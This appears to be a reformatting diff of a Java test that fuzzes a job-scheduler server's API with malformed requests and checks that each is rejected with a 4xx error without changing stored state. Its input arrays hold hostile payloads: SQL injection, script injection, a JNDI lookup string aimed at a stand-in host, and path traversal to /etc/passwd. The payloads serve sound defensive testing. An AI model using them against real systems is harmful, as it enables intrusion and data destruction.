@@ -17,34 +17,86 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 /**
- * More than a thousand malformed requests to every mutating endpoint: each is answered 4xx in
- * the error shape, never 5xx, and none changes a job, a run, a token or the audit log.
+ * More than a thousand malformed requests to every mutating endpoint: each is answered 4xx in the
+ * error shape, never 5xx, and none changes a job, a run, a token or the audit log.
  */
 class BadInputTest {
 
   private static final String[] INJECTIONS = {
-    "' OR 1=1 --", "\\\"; DROP TABLE run; --", "<script>alert(1)</script>",
-    "${jndi:ldap://evil/x}", "../../etc/passwd", "%s%n%x", "\\u202e\\u0007bell",
-    "Robert'); DELETE FROM job; --", "<img src=x onerror=alert(1)>", "\\u0001\\u001f",
+    "' OR 1=1 --",
+    "\\\"; DROP TABLE run; --",
+    "<script>alert(1)</script>",
+    "${jndi:ldap://evil/x}",
+    "../../etc/passwd",
+    "%s%n%x",
+    "\\u202e\\u0007bell",
+    "Robert'); DELETE FROM job; --",
+    "<img src=x onerror=alert(1)>",
+    "\\u0001\\u001f",
   };
+
   /** Not JSON, or JSON that is not an object. */
   private static final String[] BROKEN_JSON = {
-    "{", "}", "{\"a\":", "[1,2", "nul", "{\"x\":1}}", "'single'", "{a:1}", "\"str\"", "123",
-    "[]", "true", "null", "{\"a\":1,}", "{\"a\" 1}", "\u0000", "{\"a\":\"\u0001\"}",
-    "{\"a\":\"line\nbreak\"}", "\uFEFF{\"a\":", "{\"a\":NaN}", "{\"a\":01}", "\"\\ud800\"",
+    "{",
+    "}",
+    "{\"a\":",
+    "[1,2",
+    "nul",
+    "{\"x\":1}}",
+    "'single'",
+    "{a:1}",
+    "\"str\"",
+    "123",
+    "[]",
+    "true",
+    "null",
+    "{\"a\":1,}",
+    "{\"a\" 1}",
+    "\u0000",
+    "{\"a\":\"\u0001\"}",
+    "{\"a\":\"line\nbreak\"}",
+    "\uFEFF{\"a\":",
+    "{\"a\":NaN}",
+    "{\"a\":01}",
+    "\"\\ud800\"",
   };
+
   /** Values that are the wrong type or form for every field they are put in. */
   private static final String[] WRONG_VALUES = {
-    "123", "-1", "1.5", "[1]", "{\"x\":{}}", "\"\"", "\"yesterday\"",
-    "\"2026-13-45T99:00:00Z\"", "1e309",
+    "123",
+    "-1",
+    "1.5",
+    "[1]",
+    "{\"x\":{}}",
+    "\"\"",
+    "\"yesterday\"",
+    "\"2026-13-45T99:00:00Z\"",
+    "1e309",
   };
+
   private static final String[] BAD_IDS = {
-    "abc", "-1", "0", "1.5", "99999999999999999999", "%00", "%0A", "'%20OR%201=1",
-    "%3Cscript%3E", "424242", "1e3",
+    "abc",
+    "-1",
+    "0",
+    "1.5",
+    "99999999999999999999",
+    "%00",
+    "%0A",
+    "'%20OR%201=1",
+    "%3Cscript%3E",
+    "424242",
+    "1e3",
   };
   private static final String[] BAD_NAMES = {
-    "no-such-job", "%00", "UPPER", "a%20b", "'%20OR%201=1--", "%3Cscript%3E", "x".repeat(300),
-    "-leading", "%E2%80%AE",
+    "no-such-job",
+    "%00",
+    "UPPER",
+    "a%20b",
+    "'%20OR%201=1--",
+    "%3Cscript%3E",
+    "x".repeat(300),
+    "-leading",
+    "%E2%80%AE",
   };
 
   @TempDir static Path dataDir;
@@ -57,15 +109,29 @@ class BadInputTest {
   @BeforeAll
   static void start() {
     String db = TestDatabase.createDatabase("hydra_badinput_" + ProcessHandle.current().pid());
-    server = new HydraServer(new ServerConfig(dataDir, "127.0.0.1", 0, TestDatabase.url(db),
-        "postgres", "postgres", null).withRateLimit(0, 1)).start();
+    server =
+        new HydraServer(
+                new ServerConfig(
+                        dataDir, "127.0.0.1", 0, TestDatabase.url(db), "postgres", "postgres", null)
+                    .withRateLimit(0, 1))
+            .start();
     api = new ApiClient(server.port());
-    assertThat(api.post("/api/v1/jobs", "{\"name\":\"fz-job\",\"owner\":\"fz\","
-        + "\"schedule\":{\"cron\":\"0 2 * * *\"},\"task\":{\"command\":\"true\"}}").status())
+    assertThat(
+            api.post(
+                    "/api/v1/jobs",
+                    "{\"name\":\"fz-job\",\"owner\":\"fz\","
+                        + "\"schedule\":{\"cron\":\"0 2 * * *\"},\"task\":{\"command\":\"true\"}}")
+                .status())
         .isEqualTo(201);
-    runId = api.post("/api/v1/jobs/fz-job/runs", "{\"logicalTime\":\"2026-03-01T02:00:00Z\"}")
-        .json().get("id").asLong();
-    api.awaitJson("the fixture run ends", "/api/v1/runs/" + runId, Duration.ofSeconds(60),
+    runId =
+        api.post("/api/v1/jobs/fz-job/runs", "{\"logicalTime\":\"2026-03-01T02:00:00Z\"}")
+            .json()
+            .get("id")
+            .asLong();
+    api.awaitJson(
+        "the fixture run ends",
+        "/api/v1/runs/" + runId,
+        Duration.ofSeconds(60),
         run -> run.get("state").asText().equals("succeeded"));
   }
 
@@ -76,8 +142,11 @@ class BadInputTest {
 
   /** Everything a malformed request could change. */
   private static List<String> state() {
-    return List.of(api.get("/api/v1/jobs").body(), api.get("/api/v1/runs?limit=500").body(),
-        api.get("/api/v1/tokens").body(), api.get("/api/v1/audit?limit=1000").body(),
+    return List.of(
+        api.get("/api/v1/jobs").body(),
+        api.get("/api/v1/runs?limit=500").body(),
+        api.get("/api/v1/tokens").body(),
+        api.get("/api/v1/audit?limit=1000").body(),
         api.get("/api/v1/jobs/fz-job/versions").body());
   }
 
@@ -108,8 +177,12 @@ class BadInputTest {
       jobs.add("{\"name\":\"" + injection + "\"," + task + "}");
       jobs.add("{\"name\":\"fz-job\",\"schedule\":{\"cron\":\"" + injection + "\"}," + task + "}");
       jobs.add("{\"name\":\"fz-job\",\"after\":[\"" + injection + "\"]," + task + "}");
-      jobs.add("{\"name\":\"fz-job\",\"schedule\":{\"cron\":\"0 2 * * *\",\"timezone\":\""
-          + injection + "\"}," + task + "}");
+      jobs.add(
+          "{\"name\":\"fz-job\",\"schedule\":{\"cron\":\"0 2 * * *\",\"timezone\":\""
+              + injection
+              + "\"},"
+              + task
+              + "}");
     }
     for (String value : WRONG_VALUES) {
       jobs.add("{\"name\":\"fz-job\",\"retries\":" + value + "," + task + "}");
@@ -137,22 +210,39 @@ class BadInputTest {
       all.add(new Request("POST", "/api/v1/jobs/fz-job/runs", json, body));
     }
     for (String injection : INJECTIONS) {
-      all.add(new Request("POST", "/api/v1/jobs/fz-job/runs", json,
-          "{\"params\":{\"" + injection + "\":\"v\"}}"));
-      all.add(new Request("POST", "/api/v1/jobs/fz-job/runs", json,
-          "{\"params\":{\"k\":{\"nested\":\"" + injection + "\"}}}"));
+      all.add(
+          new Request(
+              "POST",
+              "/api/v1/jobs/fz-job/runs",
+              json,
+              "{\"params\":{\"" + injection + "\":\"v\"}}"));
+      all.add(
+          new Request(
+              "POST",
+              "/api/v1/jobs/fz-job/runs",
+              json,
+              "{\"params\":{\"k\":{\"nested\":\"" + injection + "\"}}}"));
     }
     for (String body : badBodies("from", "to", "parallelism", "params")) {
       all.add(new Request("POST", "/api/v1/jobs/fz-job/backfill", json, body));
     }
     String range = "\"from\":\"2026-01-01T00:00:00Z\",\"to\":\"2026-01-02T00:00:00Z\"";
-    for (String value : List.of("1.5", "true", "[]", "{}", "\"2\"", "-1", "0", "1001",
-        "99999999999", "null,\"x\":1")) {
-      all.add(new Request("POST", "/api/v1/jobs/fz-job/backfill", json,
-          "{" + range + ",\"parallelism\":" + value + "}"));
+    for (String value :
+        List.of(
+            "1.5", "true", "[]", "{}", "\"2\"", "-1", "0", "1001", "99999999999", "null,\"x\":1")) {
+      all.add(
+          new Request(
+              "POST",
+              "/api/v1/jobs/fz-job/backfill",
+              json,
+              "{" + range + ",\"parallelism\":" + value + "}"));
     }
-    all.add(new Request("POST", "/api/v1/jobs/fz-job/backfill", json,
-        "{\"from\":\"2026-02-01T00:00:00Z\",\"to\":\"2026-01-01T00:00:00Z\"}"));
+    all.add(
+        new Request(
+            "POST",
+            "/api/v1/jobs/fz-job/backfill",
+            json,
+            "{\"from\":\"2026-02-01T00:00:00Z\",\"to\":\"2026-01-01T00:00:00Z\"}"));
     for (String body : badBodies("downstream", "params")) {
       all.add(new Request("POST", run + "/rerun", json, body));
     }
@@ -170,8 +260,12 @@ class BadInputTest {
       all.add(new Request("POST", "/api/v1/apply", json, body));
     }
     for (String injection : INJECTIONS) {
-      all.add(new Request("POST", "/api/v1/apply", json,
-          "{\"jobs\":[{\"name\":\"" + injection + "\",\"task\":{\"command\":\"x\"}}]}"));
+      all.add(
+          new Request(
+              "POST",
+              "/api/v1/apply",
+              json,
+              "{\"jobs\":[{\"name\":\"" + injection + "\",\"task\":{\"command\":\"x\"}}]}"));
     }
     for (String body : badBodies("name", "role", "owners")) {
       all.add(new Request("POST", "/api/v1/tokens", json, body));
@@ -179,8 +273,7 @@ class BadInputTest {
     for (String body : badBodies("cron", "timezone", "from", "count")) {
       all.add(new Request("POST", "/api/v1/schedule/preview", json, body));
     }
-    all.add(new Request("POST", "/api/v1/jobs", json, "{\"a\":\"" + "x".repeat(1_100_000)
-        + "\"}"));
+    all.add(new Request("POST", "/api/v1/jobs", json, "{\"a\":\"" + "x".repeat(1_100_000) + "\"}"));
     for (String id : BAD_IDS) {
       for (String action : List.of("rerun", "kill", "mark-success", "skip")) {
         all.add(new Request("POST", "/api/v1/runs/" + id + "/" + action, json, "{}"));
@@ -201,8 +294,10 @@ class BadInputTest {
   private static boolean errorShape(ApiClient.Response response) {
     try {
       JsonNode error = response.json().get("error");
-      return error != null && !error.path("code").asText().isBlank()
-          && !error.path("message").asText().isBlank() && error.path("fields").isArray();
+      return error != null
+          && !error.path("code").asText().isBlank()
+          && !error.path("message").asText().isBlank()
+          && error.path("fields").isArray();
     } catch (AssertionError notJson) {
       return false;
     }
@@ -216,11 +311,19 @@ class BadInputTest {
     Set<String> endpointsHit = new LinkedHashSet<>();
     List<String> wrong = new ArrayList<>();
     for (Request r : requests) {
-      ApiClient.Response response = api.send(r.method(), r.path(), r.contentType(),
-          r.body().getBytes(StandardCharsets.UTF_8));
-      String what = r.method() + " " + r.path() + " "
-          + r.body().substring(0, Math.min(120, r.body().length())) + " -> " + response.status()
-          + " " + response.body().substring(0, Math.min(300, response.body().length()));
+      ApiClient.Response response =
+          api.send(
+              r.method(), r.path(), r.contentType(), r.body().getBytes(StandardCharsets.UTF_8));
+      String what =
+          r.method()
+              + " "
+              + r.path()
+              + " "
+              + r.body().substring(0, Math.min(120, r.body().length()))
+              + " -> "
+              + response.status()
+              + " "
+              + response.body().substring(0, Math.min(300, response.body().length()));
       if (response.status() < 400 || response.status() > 499 || !errorShape(response)) {
         wrong.add(what);
       }
